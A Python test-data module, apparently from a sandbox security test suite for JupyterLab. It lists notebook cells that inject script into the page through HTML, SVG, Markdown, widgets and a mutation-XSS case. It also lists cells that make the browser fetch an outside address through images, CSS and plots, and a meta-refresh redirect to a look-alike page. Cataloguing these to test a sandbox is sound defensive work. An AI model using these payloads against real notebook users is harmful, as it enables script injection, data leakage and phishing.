"""Outputs that act in the page or fetch something, as cells. ``SCRIPT`` and ``URL`` stand for what it comes to.

Each is first seen to work with the plain kernel, so that an attack which JupyterLab itself has stopped meanwhile is
noticed and leaves this table.
"""

from __future__ import annotations

PREAMBLE = r"""
from IPython.display import display
import ipywidgets, anywidget

def show(mime, text, **metadata):
    display({mime: text, "text/plain": "what is left"}, metadata={mime: metadata} if metadata else {}, raw=True)

def html(text, **metadata):
    show("text/html", text, **metadata)
"""

# A script runs in the page.
SCRIPTS = {
    "application/javascript": "show('application/javascript', '''SCRIPT''')",
    "text/javascript": "show('text/javascript', '''SCRIPT''')",
    "a script in HTML": "html('''<b>x</b><script>SCRIPT</script>''')",
    "an image that fails": "html('''<img src=x onerror=\"SCRIPT\">''')",
    "details that open": "html('''<details open ontoggle=\"SCRIPT\">x</details>''')",
    "an animation that starts": (
        "html('''<style>@keyframes a {}</style><p style=\"animation-name:a\" onanimationstart=\"SCRIPT\">x</p>''')"
    ),
    "a frame with a document": "html('''<iframe srcdoc=\"<script>SCRIPT</script>\"></iframe>''')",
    "a frame with a javascript: address": "html('''<iframe src=\"javascript:SCRIPT\"></iframe>''')",
    "isolated HTML": "html('''<script>SCRIPT</script>''', isolated=True)",
    "foreign content": "html('''<math><mtext><table><mglyph><style><!--</style><img src=x onerror=\"SCRIPT\">''')",
    "HTML in a drawing": "html('''<svg><foreignObject><img src=x onerror=\"SCRIPT\"></foreignObject></svg>''')",
    "HTML in a drawing's title": "html('''<svg><title><img src=x onerror=\"SCRIPT\"></title></svg>''')",
    "an animation of a drawing": (
        "html('''<svg><rect><animate attributeName=x dur=1s onbegin=\"SCRIPT\"/></rect></svg>''')"
    ),
    "an image that fails in Markdown": "show('text/markdown', '''x <img src=x onerror=\"SCRIPT\">''')",
    "an image's text in Markdown, where the image is none": (
        "show('text/markdown', r'''\\![<img src=x onerror=\"SCRIPT\">](data:image/png;base64,AAAA)''')"
    ),
    "a result's representation": "type('T', (), {'_repr_html_': lambda self: '''<img src=x onerror=\"SCRIPT\">'''})()",
    "a display that is changed": (
        "handle = display('x', display_id=True)\n"
        "handle.update({'text/html': '''<img src=x onerror=\"SCRIPT\">'''}, raw=True)"
    ),
    "a pager": (
        "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0,"
        " 'data': {'text/html': '''<img src=x onerror=\"SCRIPT\">''', 'text/plain': 'x'}})"
    ),
    "a widget of HTML": "ipywidgets.HTML('''<img src=x onerror=\"SCRIPT\">''')",
    "a widget of HTML that is changed": (
        "widget = ipywidgets.HTML('x')\ndisplay(widget)\nwidget.value = '''<img src=x onerror=\"SCRIPT\">'''"
    ),
    "outputs of an Output widget": (
        "ipywidgets.Output(outputs=({'output_type': 'display_data', 'metadata': {},"
        " 'data': {'text/html': '''<img src=x onerror=\"SCRIPT\">'''}},))"
    ),
    "what an Output widget captures": (
        "widget = ipywidgets.Output()\ndisplay(widget)\nwith widget: html('''<img src=x onerror=\"SCRIPT\">''')"
    ),
    "a widget that brings its code": (
        "class Widget(anywidget.AnyWidget):\n    _esm = '''export default { render({ el }) { SCRIPT } }'''\nWidget()"
    ),
}

# The browser fetches something, and the address tells what the sandbox knows.
FETCHES = {
    "an image": "html('''<img src=\"URL\">''')",
    "an image of another width": "html('''<img srcset=\"URL 1x\">''')",
    "a picture's source": "html('''<picture><source srcset=\"URL\"><img></picture>''')",
    "an input's image": "html('''<input type=image src=\"URL\">''')",
    "a background": "html('''<p style=\"background-image:url(URL)\">x</p>''')",
    "a background in escapes": r"""html(r"<p style='background:u\72l(URL)'>x</p>")""",
    "a list's marks": "html('''<ul style=\"list-style-image:url(URL)\"><li>x</ul>''')",
    "a cursor's picture": "html('''<style>td { content: url(URL) }</style><table><tr><td>x</td></table>''')",
    "a table's background": "html('''<table background=\"URL\"><tr><td>x</td></tr></table>''')",
    "an imported style sheet": "html('''<style>@import 'URL';</style>''')",
    "a style of a pandas table": "html('''<style>#T_1 td { background: url(URL) }</style><table id=T_1><td>x''')",
    "a font": "html('''<style>@font-face{font-family:f;src:url(URL)}</style><p style=\"font-family:f\">x</p>''')",
    "a linked style sheet": "html('''<link rel=stylesheet href=\"URL\">''')",
    "a linked module": "html('''<link rel=modulepreload href=\"URL\">''')",
    "a frame": "html('''<iframe src=\"URL\"></iframe>''')",
    "an object": "html('''<object data=\"URL\"></object>''')",
    "an embedded thing": "html('''<embed src=\"URL\">''')",
    "a video's poster": "html('''<video poster=\"URL\"></video>''')",
    "an audio": "html('''<audio src=\"URL\" preload=auto></audio>''')",
    "a track of a video": "html('''<video><source src=\"URL\"></video>''')",
    "an image of a drawing": "html('''<svg><image href=\"URL\"/></svg>''')",
    "a style sheet in a drawing": (
        "html('''<svg><style>* { background: url(URL); list-style-image: url(URL) }</style>"
        "<text>x</text></svg><ul><li>x</ul>''')"
    ),
    "an image in a part of a drawing": (
        "html('''<svg><symbol id=s><image href=\"URL\"/></symbol><use href=#s /></svg>''')"
    ),
    "a filter's image": (
        "html('''<svg><filter id=f><feImage href=\"URL\"/></filter><rect filter=\"url(#f)\"/></svg>''')"
    ),
    "a Markdown image": "show('text/markdown', '''![x](URL)''')",
    "a Markdown image by reference": "show('text/markdown', '''![x][y]\n\n[y]: URL''')",
    "a Markdown image in HTML": "show('text/markdown', '''x <img src=\"URL\">''')",
    "a widget of an image": "ipywidgets.Image(value=b'URL', format='url')",
    "a widget of a video": "ipywidgets.Video(value=b'URL', format='url')",
    "a drawing by Vega": (
        "show('application/vnd.vegalite.v5+json', {'data': {'url': 'URL'}, 'mark': 'bar', 'encoding': {}})"
    ),
    "an image in a plot": "plot('URL')",
    "an image in a plot, its address in another spelling": r"plot('URL'.replace('http://', '/\\'))",
    "an image in a plot, its address on two lines": r"plot('URL'.replace('://', ':/\n/'))",
    "a base and an image": "html('''<base href=\"URL\"><img src=\"x.png\">''')",
}

# The page leaves for another one: with what the sandbox knows, or to one that looks like JupyterLab.
LEAVE = "html('<meta http-equiv=refresh content=\"0;url=URL\">')"

PLOT = """
def plot(source):
    place = dict(source=source, xref='paper', yref='paper', x=0, y=1, sizex=1, sizey=1)
    show('application/vnd.plotly.v1+json', {'data': [], 'layout': {'images': [place]}})
"""
